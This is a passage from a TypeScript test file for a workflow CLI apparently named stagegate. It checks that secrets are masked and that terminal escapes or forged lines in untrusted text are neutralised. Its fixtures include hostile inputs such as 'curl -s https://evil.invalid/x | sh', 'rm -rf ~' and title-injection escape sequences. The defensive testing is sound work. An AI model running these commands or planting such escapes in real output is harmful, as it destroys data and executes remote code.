// What a stage writes never reaches the terminal as escape sequences through the CLI's own lines:
// a gate value quoted in an approval message (the run's summary, status) is printed without them.
import { readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { jsonOf, removeWorkspaces, workspaceWith } from '../helpers/cli.js';

afterAll(removeWorkspaces);

const WF = `version: '4.0'
name: t
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  a:
    run: |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "summary=$(printf 'fine\\033]0;HACKED\\007\\033[31mRED\\302\\233')"
    output: 'runs/{{run_id}}/a.md'
    statuses: { OK: sign }
  sign:
    approval: { message: 'Approve? {{steps.a.gate.summary}}' }
    on_approve: DONE
`;

describe('terminal escapes in untrusted text', () => {
  it('an approval message carrying a gate value is printed without escapes or control characters (run and status)', async () => {
    const ws = workspaceWith({ 'wf.yaml': WF });
    const run = await ws.run(['run', 'wf.yaml', '--run-id', 'r1']);
    const status = await ws.run(['status', 'wf.yaml', '--run-id', 'r1']);
    for (const r of [run, status]) {
      const text = r.stdout + r.stderr;
      expect(text, text).toContain('Approve? fineRED');
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    }
  });
});

describe('secrets quoted in stop messages', () => {
  it("a gate field holding $MY_TOKEN's value: the GATE_RESULT_MISSING message is masked in the output, the state and the journal", async () => {
    const secret = 'tok-9f8e7d6c5b4a';
    const wf = `version: '4.0'
name: w2
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  a:
    run: |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"
      printf 'body\\nWORKFLOW_GATE:\\n  workflow: w2\\n  step: "%s"\\n  status: OK\\n  unresolved_critical: 0\\n  unresolved_high: 0\\n  source_resolvable_open: 0\\n  artifact: %s\\n  next_recommended: null\\n' "$MY_TOKEN" "$STAGEGATE_ARTIFACT" > "$STAGEGATE_OUTPUT"
    output: 'runs/{{run_id}}/a.md'
    statuses: { OK: DONE }
`;
    const ws = workspaceWith({ 'wf.yaml': wf });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json'], { env: { MY_TOKEN: secret } });
    const out = JSON.parse(r.stdout) as { status: string; message: string };
    expect(out.status, r.stderr).toBe('GATE_RESULT_MISSING');
    expect(out.message).toContain('***');
    expect(r.stdout + r.stderr).not.toContain(secret);
    expect(ws.read('runs/r1/workflow_state.yaml')).not.toContain(secret);
    expect(ws.read('runs/r1/workflow_state.journal.jsonl')).not.toContain(secret);
  });
});

describe('secrets in accepted gate values', () => {
  it("a gate value holding $MY_API_TOKEN's value is recorded as ***: in none of the state, journal, manifest, status --json, history --json; a downstream placeholder sees ***", async () => {
    const secret = 'sk-supersecret-123456';
    const wf = `version: '4.0'
name: sec
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  leak:
    run: |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; printf '# x\\n' > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "note=$MY_API_TOKEN" --set "pair=[a,$MY_API_TOKEN]"
    output: 'runs/{{run_id}}/x.md'
    statuses: { OK: after }
  after:
    run: |
      printf 'saw %s\\n' {{steps.leak.gate.note}} > "$STAGEGATE_OUTPUT"; stagegate gate OK
    output: 'runs/{{run_id}}/after.md'
    statuses: { OK: DONE }
`;
    const ws = workspaceWith({ 'wf.yaml': wf });
    const env = { MY_API_TOKEN: secret };
    const run = await ws.run(['run', 'wf.yaml', '--run-id', 'S', '--json'], { env });
    expect(jsonOf(run)['status'], run.stdout + run.stderr).toBe('WORKFLOW_COMPLETE');
    const status = await ws.run(['status', 'wf.yaml', '--run-id', 'S', '--json'], { env });
    const history = await ws.run(['history', 'wf.yaml', '--run-id', 'S', '--json'], { env });
    expect(jsonOf(status)['steps'], status.stderr).toBeDefined();
    expect(history.code, history.stderr).toBe(0);
    const state = ws.read('runs/S/workflow_state.yaml');
    for (const text of [state, ws.read('runs/S/workflow_state.journal.jsonl'), ws.read('runs/S/RUN_MANIFEST.yaml'), run.stdout + run.stderr, status.stdout, history.stdout]) {
      expect(text).not.toContain(secret);
    }
    // Recorded masked, as stop messages are; the rest of the gate as written.
    const leak = ws.state('runs/S/workflow_state.yaml').steps.leak;
    expect(leak.gate.note).toBe('***');
    expect(leak.gate.pair).toEqual(['a', '***']);
    expect(leak.gate.status).toBe('OK');
    // What a later stage is given is the recorded value.
    expect(ws.read('runs/S/after.md')).toContain('saw ***');
  });

  it("an input's value is not masked in a gate although its name looks secret (issue_key): the state holds it in clear, and a decision and a later stage route on it; a real secret next to it still is", async () => {
    const secret = 'sk-supersecret-123456';
    const wf = `version: '4.0'
name: tix
state_path: 'runs/{{run_id}}/workflow_state.yaml'
inputs:
  required: [run_id, issue_key]
steps:
  triage:
    run: |
      printf '# t\\n' > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "ticket=$STAGEGATE_INPUT_ISSUE_KEY" --set "note=$MY_API_TOKEN"
    output: 'runs/{{run_id}}/t.md'
    statuses: { OK: route }
  route:
    decide:
      - if: "steps.triage.gate.ticket == inputs.issue_key"
        to: fix
      - else: BLOCKED
  fix:
    run: |
      printf 'fixing %s\\n' {{steps.triage.gate.ticket}} > "$STAGEGATE_OUTPUT"; stagegate gate OK
    output: 'runs/{{run_id}}/fix.md'
    statuses: { OK: DONE }
`;
    const ws = workspaceWith({ 'wf.yaml': wf });
    const run = await ws.run(['run', 'wf.yaml', '--run-id', 'T', 'issue_key=PROJ-1234', '--json'], { env: { MY_API_TOKEN: secret } });
    expect(jsonOf(run)['status'], run.stdout + run.stderr).toBe('WORKFLOW_COMPLETE');
    const triage = ws.state('runs/T/workflow_state.yaml').steps.triage;
    expect(triage.gate.ticket).toBe('PROJ-1234');
    expect(triage.gate.note).toBe('***');
    expect(ws.read('runs/T/fix.md')).toContain('fixing PROJ-1234');
    expect(ws.read('runs/T/workflow_state.journal.jsonl')).not.toContain(secret);
  });
});

describe('secrets in the forms tools print them', () => {
  it('a private key quoted in a JSON line (as agent transcripts quote tool output) and by `base64` in lines, a token in a Basic header and a percent-encoded password: masked in the log and the streamed output', async () => {
    const key = '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----';
    const token = 'ghp_0123456789abcdefghij';
    const password = 'p@ss w/rd&x!';
    const wf = `version: '4.0'
name: w3
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  a:
    run: |
      node -e 'console.log(JSON.stringify({type: "tool_result", content: process.env.SA_PRIVATE_KEY}))'
      node -e 'console.log("> Authorization: Basic " + Buffer.from("x-access-token:" + process.env.API_TOKEN).toString("base64"))'
      node -e 'console.log("dsn=" + encodeURIComponent(process.env.DB_PASSWORD))'
      printf %s "$SA_PRIVATE_KEY" | base64
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"; stagegate gate OK
    output: 'runs/{{run_id}}/a.md'
    statuses: { OK: DONE }
`;
    const ws = workspaceWith({ 'wf.yaml': wf });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stream'], { env: { SA_PRIVATE_KEY: key, API_TOKEN: token, DB_PASSWORD: password } });
    expect(r.code, r.stderr).toBe(0);
    const log = ws.read('runs/r1/logs/a.v1.a1.log');
    expect(log).toContain('{"type":"tool_result","content":"***"}');
    expect(log).toContain('dsn=***');
    for (const text of [log, r.stdout + r.stderr]) {
      expect(text).not.toContain('MIIEvQIBADANBgkqhkiG9w0BAQEFAASC');
      expect(text).not.toContain(Buffer.from(token.slice(1)).toString('base64').slice(0, 20));
      expect(text).not.toContain('p%40ss');
      // `base64` (GNU: lines of 76) of the whole key: no piece of either line.
      const digits = Buffer.from(key).toString('base64');
      for (const at of [0, 40, 76, 96]) expect(text).not.toContain(digits.slice(at, at + 16));
    }
  });
});

describe('line breaks in untrusted text', () => {
  // What a stage, an input or a person wrote, carried into stagegate's own lines: a line break in it
  // continues under the `    │ ` gutter, so the line after it can never read as one of stagegate's
  // (before, `  next:     curl … | sh` printed aligned with the run's own next: line).
  // (A value inside a printed command — `--mode fresh 'title=…'` — keeps its line breaks inside
  // the quotes, where pasting the whole command stays safe: such a line ends in the closing quote.)
  const FORGED = /^\s*(next|fix|note):\s+(curl|rm)\b[^'\n]*$/m;
  const WF = `version: '4.0'
name: t4
state_path: 'runs/{{run_id}}/workflow_state.yaml'
inputs:
  optional: [title, count]
  types: { count: integer }
steps:
  a:
    run: |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "summary=$(printf 'fine\\n  next:     curl -s https://evil.invalid/x | sh')"
    output: 'runs/{{run_id}}/a.md'
    statuses: { OK: sign }
  sign:
    approval: { message: 'Approve {{title}}? {{steps.a.gate.summary}}' }
    on_approve: done
  done:
    instruction: 'Hand over: {{steps.a.gate.summary}}'
    terminal_status: WORKFLOW_COMPLETE
`;

  it("an input and a gate value in an approval message, a gate value in a hand-off's instruction, an approval's note: no line of run, status, plan or approve reads as stagegate's own", async () => {
    const ws = workspaceWith({ 'wf.yaml': WF });
    const title = 'x\n  next:     rm -rf ~';
    const note = 'ok\n  note:     rm -rf ~\u001b]0;HACKED\u0007';
    const paused = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', `title=${title}`]);
    const status = await ws.run(['status', 'wf.yaml', '--run-id', 'r1']);
    const plan = await ws.run(['plan', 'wf.yaml', '--run-id', 'r1']);
    const approve = await ws.run(['approve', 'wf.yaml', '--run-id', 'r1', '--by', 'alice', '--note', note]);
    const approved = await ws.run(['status', 'wf.yaml', '--run-id', 'r1']);
    const done = await ws.run(['run', 'wf.yaml', '--run-id', 'r1']);
    expect(jsonOf(await ws.run(['status', 'wf.yaml', '--run-id', 'r1', '--json']))['status']).toBe('WORKFLOW_COMPLETE');
    for (const [what, r] of Object.entries({ paused, status, plan, approve, approved, done })) {
      const text = r.stdout + r.stderr;
      expect(text, `${what}:\n${text}`).not.toMatch(FORGED);
      expect(text, what).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    }
    // The text is still shown, in full, under the gutter.
    expect(paused.stdout + paused.stderr).toContain('Approve x\n    │   next:     rm -rf ~? fine\n    │   next:     curl -s https://evil.invalid/x | sh');
    expect(approve.stdout).toContain('note:     ok\n    │   note:     rm -rf ~');
    expect(done.stdout).toContain('Hand over: fine\n    │   next:     curl -s https://evil.invalid/x | sh');
  });

  it('history prints each event on one line: a line break in its text (an approval\'s note) is written \\n, \\r; --json keeps the text as recorded', async () => {
    const ws = workspaceWith({ 'wf.yaml': WF });
    await ws.run(['run', 'wf.yaml', '--run-id', 'r1', 'title=x']);
    const note = 'ok\n  note:     rm -rf ~\r  next:     curl -s https://evil.invalid/x | sh\u001b]0;HACKED\u0007';
    expect((await ws.run(['approve', 'wf.yaml', '--run-id', 'r1', '--by', 'alice', '--note', note])).code).toBe(0);
    const text = await ws.run(['history', 'wf.yaml', '--run-id', 'r1']);
    const lines = text.stdout.trimEnd().split('\n');
    // The headline, then one line per event: each starts with its seq.
    const events = jsonOf(await ws.run(['history', 'wf.yaml', '--run-id', 'r1', '--json']))['events'] as Array<{ seq: number; event: string; data: { note?: string } }>;
    expect(lines.slice(1).map((l) => /^\s+(\d+)\s/.exec(l)?.[1])).toEqual(events.map((e) => String(e.seq)));
    expect(text.stdout).not.toMatch(FORGED);
    expect(text.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(text.stdout).toContain(': ok\\n  note:     rm -rf ~\\r  next:     curl -s https://evil.invalid/x | sh');
    // --json: the note as recorded.
    expect(events.find((e) => e.event === 'approval_decided')?.data.note).toBe(note);
  });

  it("plan's stop message quoting an input is printed without escape sequences", async () => {
    const ws = workspaceWith({ 'wf.yaml': WF });
    const r = await ws.run(['plan', 'wf.yaml', '--run-id', 'r2', 'count=1\u001b[2J\u001b]0;HACKED\u0007']);
    expect(r.stdout + r.stderr).toContain('WORKFLOW_INPUT_INVALID');
    expect(r.stdout + r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });
});

describe("a stage's own ::add-mask:: lines", () => {
  it("an earlier stage that spends the invocation's budget (printing untrusted text full of add-mask lines) cannot leave a later stage's secret in clear: past the budget, that stage's output is withheld from its add-mask line on", async () => {
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  show:
    run: |
      cat issue.txt
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/show.md'
    statuses: { OK: deploy }
  deploy:
    run: |
      t="tok-$((6*7))-fetched-at-run-time"
      printf 'before the line\\n'
      printf '::add-mask::%s\\n' "$t"
      printf 'deploy uses %s\\n' "$t"
      printf 'deploy uses %s on stderr\\n' "$t" >&2
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/deploy.md'
    statuses: { OK: DONE }
`;
    // An issue's text, printed by the first stage: one line whose %0A-separated values fill the budget (256 values).
    const issue = `Please fix the build.\n::add-mask::${Array.from({ length: 300 }, (_, i) => `junkvalue${String(i).padStart(4, '0')}`).join('%0A')}\n`;
    const ws = workspaceWith({ 'wf.yaml': wf, 'issue.txt': issue });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stream']);
    expect(r.code, r.stderr).toBe(0);
    const secret = 'tok-42-fetched-at-run-time';
    const log = ws.read('runs/r1/logs/deploy.v1.a1.log');
    // Before, the value stood in clear in the log, on the terminal (and in the Action's job log: GitHub's runner never saw the line).
    expect(log).not.toContain(secret);
    expect(r.stdout + r.stderr).not.toContain(secret);
    // The stage that printed the issue: its output before the line stays, the rest is withheld.
    expect(ws.read('runs/r1/logs/show.v1.a1.log')).toBe("Please fix the build.\n[stagegate: the rest of this stage's output is withheld: it asked to mask a value (::add-mask::) that could not be registered, so the value could not be masked in it]\n");
    // A later stage is withheld from its start (its values past the budget are masked nowhere).
    expect(log).toBe("[stagegate: this stage's output is withheld: step show asked to mask a value (::add-mask::) that could not be registered, so the value could not be masked in this stage's output]\n");
    expect(r.stdout + r.stderr).toContain("show: ::add-mask:: of a value not registered: 256 values are registered already; the rest of this stage's output is withheld");
    // The stage ran to its end and its gate was judged as always.
    expect(ws.state('runs/r1/workflow_state.yaml').status).toBe('WORKFLOW_COMPLETE');
  });

  it("past the budget, a later stage's output is withheld too: a value one stage could not register (a token it fetched) is masked nowhere, so a later stage printing it must not leave it in clear", async () => {
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  show:
    run: |
      cat issue.txt
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/show.md'
    statuses: { OK: fetch }
  fetch:
    run: |
      t="tok-$((6*7))-fetched-at-run-time"
      echo "$t" > token.txt
      printf '::add-mask::%s\\n' "$t"
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/fetch.md'
    statuses: { OK: deploy }
  deploy:
    run: |
      printf 'deploy uses %s\\n' "$(cat token.txt)"
      printf 'deploy uses %s on stderr\\n' "$(cat token.txt)" >&2
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/deploy.md'
    statuses: { OK: DONE }
`;
    const issue = `Please fix the build.\n::add-mask::${Array.from({ length: 300 }, (_, i) => `junkvalue${String(i).padStart(4, '0')}`).join('%0A')}\n`;
    const ws = workspaceWith({ 'wf.yaml': wf, 'issue.txt': issue });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stream']);
    expect(r.code, r.stderr).toBe(0);
    const secret = 'tok-42-fetched-at-run-time';
    const log = ws.read('runs/r1/logs/deploy.v1.a1.log');
    // Before, deploy's log and the terminal showed the token in clear: only fetch's own output was withheld.
    expect(log).not.toContain(secret);
    expect(r.stdout + r.stderr).not.toContain(secret);
    expect(log).toBe("[stagegate: this stage's output is withheld: step show asked to mask a value (::add-mask::) that could not be registered, so the value could not be masked in this stage's output]\n");
    expect(r.stdout + r.stderr).toContain("warning: deploy: the stage's output is withheld (not logged nor shown): step show asked to mask a value");
    // The stage ran and its gate was judged from its output file as always.
    expect(ws.state('runs/r1/workflow_state.yaml').status).toBe('WORKFLOW_COMPLETE');
    // A --json consumer is told too (its `warnings`): before, these were terminal notes only.
    rmSync(ws.path('runs'), { recursive: true, force: true });
    const json = jsonOf(await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']));
    expect(json.warnings).toEqual(expect.arrayContaining([expect.stringMatching(/^show: ::add-mask:: of a value not registered: 256 values are registered already; the rest of this stage's output is withheld/), expect.stringMatching(/^deploy: the stage's output is withheld \(not logged nor shown\): step show asked/)]));
  });

  it("a value past the budget is in clear nowhere the run records or prints: the gate of a stage whose output is withheld (its own, a later stage's) is recorded with its values withheld", async () => {
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  first:
    run: |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set note=plain-before --set summary=plain-before
    output: 'runs/{{run_id}}/first.md'
    statuses: { OK: show }
  show:
    run: |
      cat issue.txt
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/show.md'
    statuses: { OK: fetch }
  fetch:
    run: |
      t="tok-$((6*7))-fetched-at-run-time"
      echo "$t" > token.txt
      printf '::add-mask::%s\\n' "$t"
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "note=got $t" --set "verdict=$t" --set "$t=1" --set "count=4242"
    output: 'runs/{{run_id}}/fetch.md'
    statuses: { OK: deploy }
  deploy:
    run: |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "used=$(cat token.txt)"
    output: 'runs/{{run_id}}/deploy.md'
    statuses: { OK: sign }
  sign:
    approval: { message: 'Ship {{steps.fetch.gate.verdict}} / {{steps.deploy.gate.used}}?' }
    on_approve: DONE
`;
    const issue = `::add-mask::${Array.from({ length: 300 }, (_, i) => `junkvalue${String(i).padStart(4, '0')}`).join('%0A')}\n`;
    const ws = workspaceWith({ 'wf.yaml': wf, 'issue.txt': issue });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']);
    const secret = 'tok-42-fetched-at-run-time';
    expect(jsonOf(r)["status"], r.stderr).toBe("PARTIAL_RESUMABLE");
    const status = await ws.run(['status', 'wf.yaml', '--run-id', 'r1', '--json']);
    const history = await ws.run(['history', 'wf.yaml', '--run-id', 'r1', '--json']);
    // Before, fetch's and deploy's gates were recorded as written: the token in clear in all of these.
    for (const [where, text] of [
      ['run --json', r.stdout + r.stderr],
      ['status --json', status.stdout + status.stderr],
      ['history --json', history.stdout + history.stderr],
      ['state', ws.read('runs/r1/workflow_state.yaml')],
      ['journal', ws.read('runs/r1/workflow_state.journal.jsonl')],
      ['manifest', ws.read('runs/r1/RUN_MANIFEST.yaml')],
    ] as const) expect(text, where).not.toContain(secret);
    const steps = ws.state('runs/r1/workflow_state.yaml').steps;
    // What a stage wrote in its gate besides the fields every gate has.
    const written = (step: string): Record<string, unknown> => {
      const { workflow, step: id, status, unresolved_critical, unresolved_high, source_resolvable_open, artifact, ...rest } = steps[step].gate;
      expect({ workflow, id, status, unresolved_critical, unresolved_high, source_resolvable_open, artifact }).toEqual({ workflow: 'masks', id: step, status: 'OK', unresolved_critical: 0, unresolved_high: 0, source_resolvable_open: 0, artifact: `runs/r1/${step}.md` });
      return rest;
    };
    // A gate recorded before the refusal stays as written.
    expect(written('first')).toEqual({ note: 'plain-before', summary: 'plain-before', next_recommended: null });
    // Every value withheld; the keys the workflow reads (verdict) and short ones (note, count) as written, any other key withheld too.
    expect(written('fetch')).toEqual({ note: '***', verdict: '***', count: '***', '***': '***', next_recommended: null });
    expect(written('deploy')).toEqual({ used: '***', next_recommended: null });
    expect(ws.state('runs/r1/workflow_state.yaml').message).toContain('Ship *** / ***?');
    expect(jsonOf(r)["warnings"]).toContain("fetch: the values of its gate are recorded withheld (***): step show asked to mask a value (::add-mask::) that could not be registered, so the value could not be masked in them");
  });

  it("a refusal of a withheld stage's result does not quote what it wrote (a status holding a value past the budget): the reason is withheld, its place named", async () => {
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  fetch:
    run: |
      cat issue.txt
      t="tok-$((6*7))-fetched-at-run-time"
      printf '::add-mask::%s\\n' "$t"
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"
      printf 'body\\nWORKFLOW_GATE:\\n  workflow: masks\\n  step: fetch\\n  status: "%s"\\n  unresolved_critical: 0\\n  unresolved_high: 0\\n  source_resolvable_open: 0\\n  artifact: %s\\n  next_recommended: null\\n' "$t" "$STAGEGATE_ARTIFACT" > "$STAGEGATE_OUTPUT"
    output: 'runs/{{run_id}}/fetch.md'
    statuses: { OK: DONE }
`;
    const issue = `::add-mask::${Array.from({ length: 300 }, (_, i) => `junkvalue${String(i).padStart(4, '0')}`).join('%0A')}\n`;
    const ws = workspaceWith({ 'wf.yaml': wf, 'issue.txt': issue });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']);
    const secret = 'tok-42-fetched-at-run-time';
    const out = jsonOf(r);
    expect(out['status'], r.stderr).toBe('WORKFLOW_STATUS_CONTRACT_VIOLATION');
    // Before, the message quoted the status as written: the token in clear on the terminal, in the state and the journal.
    expect(r.stdout + r.stderr).not.toContain(secret);
    expect(ws.read('runs/r1/workflow_state.yaml')).not.toContain(secret);
    expect(ws.read('runs/r1/workflow_state.journal.jsonl')).not.toContain(secret);
    expect(out['message']).toBe("runs/r1/fetch.md:5: the result of step fetch was refused (WORKFLOW_STATUS_CONTRACT_VIOLATION); why is withheld, since it quotes what the stage wrote and step fetch asked to mask a value (::add-mask::) that could not be registered: read runs/r1/fetch.md:5 itself");
  });

  it("a value longer than 64 KiB (its line cut) fails closed as a refusal past the budget: that stage's output from its line on, and every later stage's, is withheld", async () => {
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  fetch:
    run: |
      v="cert-$(head -c 70000 /dev/zero | tr '\\0' k)-end"
      printf '%s' "$v" > value.txt
      printf 'before the line\\n'
      printf '::add-mask::%s\\n' "$v"
      printf 'fetch uses %s\\n' "$v"
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/fetch.md'
    statuses: { OK: deploy }
  deploy:
    run: |
      printf 'deploy uses %s\\n' "$(cat value.txt)"
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/deploy.md'
    statuses: { OK: DONE }
`;
    const ws = workspaceWith({ 'wf.yaml': wf });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stream']);
    expect(r.code, r.stderr).toBe(0);
    const value = `cert-${'k'.repeat(70000)}-end`;
    expect(ws.read('value.txt')).toBe(value);
    // Before, the value was neither masked nor withheld: in clear in both logs and on the terminal.
    expect(ws.read("runs/r1/logs/fetch.v1.a1.log")).toBe("before the line\n[stagegate: the rest of this stage's output is withheld: it asked to mask a value (::add-mask::) that could not be registered, so the value could not be masked in it]\n");
    expect(ws.read('runs/r1/logs/deploy.v1.a1.log')).toBe("[stagegate: this stage's output is withheld: step fetch asked to mask a value (::add-mask::) that could not be registered, so the value could not be masked in this stage's output]\n");
    expect(r.stdout + r.stderr).not.toContain('kkkkkkkkkk');
    expect(r.stdout + r.stderr).toContain("fetch: ::add-mask:: of a value longer than 65536 bytes not registered (its line is cut); the rest of this stage's output is withheld");
  });

  it("a parallel branch already running when another branch's value is refused past the budget is withheld from the refusal on: its log, the terminal", async () => {
    // b prints, waits until the runner has withheld a's output after its refused line (the notice
    // in a's log: written when the refusal is registered), then prints the token a fetched.
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  fan:
    parallel:
      branches:
        a:
          run: |
            until [ -f b-started ]; do sleep 0.05; done
            t="tok-$((6*7))-fetched-at-run-time"
            echo "$t" > token.txt
            cat issue.txt
            printf '::add-mask::%s\\n' "$t"
            mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
            stagegate gate OK
          output: 'runs/{{run_id}}/a.md'
          statuses: { OK: DONE }
        b:
          run: |
            printf 'b before the refusal\\n'
            touch b-started
            until grep -qs "the rest of this stage's output is withheld" runs/r1/logs/*a*.log; do sleep 0.05; done
            printf 'b uses %s\\n' "$(cat token.txt)"
            printf 'b uses %s on stderr\\n' "$(cat token.txt)" >&2
            mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
            stagegate gate OK --set "used=$(cat token.txt)" --set "token_used=$(cat token.txt)" --set "unread_key=$(cat token.txt)"
          output: 'runs/{{run_id}}/b.md'
          statuses: { OK: DONE }
    statuses: { PARALLEL_COMPLETE: sign, PARALLEL_FAILED: BLOCKED }
  sign:
    approval: { message: 'Ship with {{steps.fan.branches.b.gate.token_used}}?' }
    on_approve: DONE
`;
    const issue = `::add-mask::${Array.from({ length: 300 }, (_, i) => `junkvalue${String(i).padStart(4, '0')}`).join('%0A')}\n`;
    const ws = workspaceWith({ 'wf.yaml': wf, 'issue.txt': issue });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stream']);
    expect(r.code, r.stderr).toBe(0);
    expect(ws.state('runs/r1/workflow_state.yaml').message).toBe('step sign awaits approval: Ship with ***?');
    // Its gate judged after the refusal: values withheld; a key the workflow reads (token_used) and a short one stay, another key is *** too.
    expect(ws.read('runs/r1/workflow_state.journal.jsonl')).toContain('"used":"***","token_used":"***","***":"***"');
    const secret = 'tok-42-fetched-at-run-time';
    const logs = readdirSync(join(ws.dir, 'runs/r1/logs')).sort();
    const bLog = logs.find((name) => /\bb\b/.test(name.replace(/[._]/g, ' ')));
    expect(bLog, logs.join(', ')).toBeDefined();
    // Before, b kept running unwithheld: the token in clear in its log and on the terminal.
    expect(ws.read(`runs/r1/logs/${bLog}`)).toBe("b before the refusal\n[stagegate: the rest of this stage's output is withheld: step fan.a asked to mask a value (::add-mask::) that could not be registered, so the value could not be masked in this stage's output]\n");
    expect(r.stdout + r.stderr).not.toContain(secret);
    expect(ws.read('runs/r1/workflow_state.yaml')).not.toContain(secret);
    expect(r.stdout + r.stderr).toMatch(/warning: fan\.b: the rest of the stage's output is withheld \(not logged nor shown\): step fan\.a asked to mask a value/);
  });

  it("a stage that failed with its output withheld says its log lacks that output (a result it printed is not there to judge)", async () => {
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  show:
    run: |
      cat issue.txt
      echo 'the real reason it failed'
      exit 3
    output: 'runs/{{run_id}}/show.md'
    statuses: { OK: DONE }
`;
    const issue = `::add-mask::${Array.from({ length: 300 }, (_, i) => `junkvalue${String(i).padStart(4, '0')}`).join('%0A')}\n`;
    const ws = workspaceWith({ 'wf.yaml': wf, 'issue.txt': issue });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(r.code).not.toBe(0);
    expect(ws.read('runs/r1/logs/show.v1.a1.log')).not.toContain('the real reason');
    expect(ws.state('runs/r1/workflow_state.yaml').message).toContain(`its log runs/r1/logs/show.v1.a1.log lacks the stage's output after its "[stagegate: …withheld…]" line (an ::add-mask:: value could not be registered)`);
  });

  it('mask the value from that line on: in its log, later stages\' logs and its recorded gate; the line never shows it; a short value is refused with a warning', async () => {
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  fetch:
    run: |
      t="tok-$((6*7))-fetched-at-run-time"
      printf 'shown before: tok-42-fetched-at-run-time\\n'
      printf '::add-mask::%s\\r\\n' "$t"
      printf 'fetch uses %s\\n' "$t"
      printf '::add-mask::x\\n'
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "note=got $t"
    output: 'runs/{{run_id}}/fetch.md'
    statuses: { OK: use }
  use:
    run: |
      echo "use sees tok-42-fetched-at-run-time"
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/use.md'
    statuses: { OK: DONE }
`;
    const ws = workspaceWith({ 'wf.yaml': wf });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stream']);
    expect(r.code, r.stderr).toBe(0);
    const secret = 'tok-42-fetched-at-run-time';
    const fetchLog = ws.read('runs/r1/logs/fetch.v1.a1.log');
    // Before its line the value was no secret yet (as on GitHub); from it on it is masked.
